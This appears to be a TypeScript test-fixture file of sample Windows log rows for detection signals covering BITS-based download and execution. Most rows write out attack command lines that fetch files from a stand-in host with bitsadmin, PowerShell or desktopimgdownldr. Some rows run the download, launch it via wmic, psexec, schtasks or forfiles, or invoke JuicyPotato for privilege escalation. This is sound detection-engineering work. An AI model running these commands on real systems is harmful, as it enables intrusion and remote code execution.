import type { Example } from '../signal.js';

const bitsadmin = 'bitsadmin.exe';

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const executionExamples: Readonly<Record<string, readonly Example[]>> = {
  'transfer': [{ process_name: bitsadmin, process: 'bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }, { ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a' }],
  'client-bitsadmin': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\bitsadmin.exe' }],
  'client-powershell': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }],
  'client-odd': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\calc.exe' }],
  'client-staged': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Users\\Public\\a.exe' }],
  'com': [{ ScriptBlockText: '$m = [Activator]::CreateInstance([Type]::GetTypeFromCLSID("4991d34b-80a1-4291-83b6-3328366b9097"))' }],
  'remote-job': [{ process_name: 'powershell.exe', process: 'powershell -c "Invoke-WsmanAction -Action CreateJob -ResourceUri wmi/root/microsoft/bits/BitsClientJob -ValueSet @{DisplayName=\'u\';RemoteUrl=\'https://files.example.net/a\';LocalFile=\'C:\\d\\a\'} -ComputerName srv07"' }],
  'lockscreen': [{ process_name: 'desktopimgdownldr.exe', process: 'desktopimgdownldr.exe /lockscreenurl:https://files.example.net/a.7z /eventName:e' }],
  'coercion': [{ process_name: 'a.exe', process: 'JuicyPotato.exe -l 1337 -p c:\\windows\\system32\\cmd.exe -t * -c {4991d34b-80a1-4291-83b6-3328366b9097}' }],
  'fetch-and-run': [{ ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a; iex (gc C:\\d\\a)' }],
  'fetch-and-start': [{ ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a.exe; Start-Process C:\\d\\a.exe' }],
  'wmi-carrier': [{ process_name: 'wmic.exe', process: 'wmic process call create "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
  'remote-carrier': [{ process_name: 'psexec.exe', process: 'psexec \\\\srv07 bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }],
  'scheduled': [{ process_name: 'schtasks.exe', process: 'schtasks /create /tn t /sc once /st 10:00 /tr "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
  'script-host': [{ process_name: 'forfiles.exe', process: 'forfiles /p C:\\Windows /m notepad.exe /c "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
};
